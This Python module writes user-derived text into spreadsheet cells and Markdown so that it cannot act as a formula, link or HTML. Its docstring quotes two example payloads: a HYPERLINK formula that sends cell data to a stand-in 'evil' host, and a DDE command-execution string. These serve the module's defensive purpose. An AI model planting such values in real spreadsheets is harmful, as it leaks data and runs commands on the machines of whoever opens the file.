"""Text from user data written as text, never as a live formula (issue 15).

openpyxl turns any string that starts with ``=`` into a formula; a project name such as
``=HYPERLINK("http://evil/?"&Inputs!C6)`` or the DDE payload ``=cmd|' /C calc'!A0`` would run
when the report is opened. Every writer puts user-derived text through :func:`put_text`:

* a string is stored as a string (cell type ``s``), never as a formula;
* a string that a spreadsheet would read as a formula if retyped or exported to CSV (it starts
  with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return: the OWASP "CSV injection" list)
  also gets Excel's quote prefix, the hidden apostrophe that keeps it text when edited;
* characters XML 1.0 cannot hold (control characters other than tab and line breaks) are
  dropped, where openpyxl would raise;
* text longer than a cell holds (32,767 characters, Excel's limit) is cut with a marker.

Numbers, booleans, dates and ``None`` are written as they are; any other object as its text.

Markdown output goes through :func:`md_text`, which makes input text inert there: no link,
image, HTML tag or table break can come from a project's name, notes or checklist.
"""

from __future__ import annotations

import datetime as _dt
import re
from decimal import Decimal
from typing import Any

from openpyxl.cell.cell import Cell

CELL_MAX_CHARS = 32_767
"""Excel's limit on the characters in one cell (Excel specifications and limits)."""

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet treat typed or imported text as a formula
(OWASP, "CSV Injection")."""

_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_CUT = " [...]"


def clean_text(text: str, limit: int = CELL_MAX_CHARS) -> str:
    """``text`` without characters XML cannot hold, cut to ``limit`` characters."""
    text = _ILLEGAL.sub("", text)
    if len(text) > limit:
        text = text[: limit - len(_CUT)] + _CUT
    return text


def put_text(cell: Cell, value: Any) -> Cell:
    """Assign ``value`` to ``cell``; a string is always stored as a string, never a formula."""
    if value is None or isinstance(value, bool | int | float | Decimal | _dt.date | _dt.time | _dt.timedelta):
        cell.value = value
        return cell
    text = clean_text(value if isinstance(value, str) else str(getattr(value, "value", value)))
    cell.value = text
    cell.data_type = "s"  # openpyxl made it "f" when it starts with "="
    if text.startswith(FORMULA_TRIGGERS):
        cell.quotePrefix = True
    return cell


# --- Markdown -----------------------------------------------------------------------------

_MD_SPECIAL = re.compile(r"([\\`\[\]<>!|&])")  # links, images, HTML, entities, code, table cells
_URL_SCHEME = re.compile(r"\b([A-Za-z][A-Za-z0-9+.-]{1,20}):(?=//|[^\s])")


def md_text(value: Any, limit: int = 2000) -> str:
    """Input text made inert for Markdown: one line; the characters that open a link, an image,
    an HTML tag or entity, a code span or a table cell escaped (``[x](url)``, ``<a>``, ``&#..;``,
    `` ` ``, ``|``); URL schemes and ``www.`` broken (``http\\://``) so that renderers that
    auto-link bare URLs do not; cut to ``limit`` characters. Emphasis characters are left: they
    cannot run anything."""
    text = clean_text(" ".join(str("" if value is None else value).split()), limit)
    text = _MD_SPECIAL.sub(r"\\\1", text)
    text = _URL_SCHEME.sub(r"\1\\:", text)
    return re.sub(r"(?i)\bwww\.", lambda m: m.group(0)[:-1] + "\\.", text)
